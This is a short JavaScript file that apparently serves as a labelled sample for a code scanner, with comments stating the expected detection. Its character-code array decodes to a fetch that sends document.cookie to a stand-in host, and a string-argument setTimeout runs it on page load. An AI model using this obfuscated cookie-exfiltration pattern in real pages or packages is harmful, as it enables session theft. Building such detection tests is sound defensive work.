// expect: category=code-generation min=80 context=plugin,package
// why: a timer given a string compiles it; the string is built from char codes.
const codes = [102, 101, 116, 99, 104, 40, 39, 104, 116, 116, 112, 115, 58, 47, 47, 99, 46, 101,
  120, 97, 109, 112, 108, 101, 47, 39, 43, 100, 111, 99, 117, 109, 101, 110, 116, 46, 99, 111, 111,
  107, 105, 101, 41];

function later() {
  const src = String.fromCharCode.apply(String, codes);
  setTimeout(src, 250);
}

document.addEventListener('DOMContentLoaded', later);
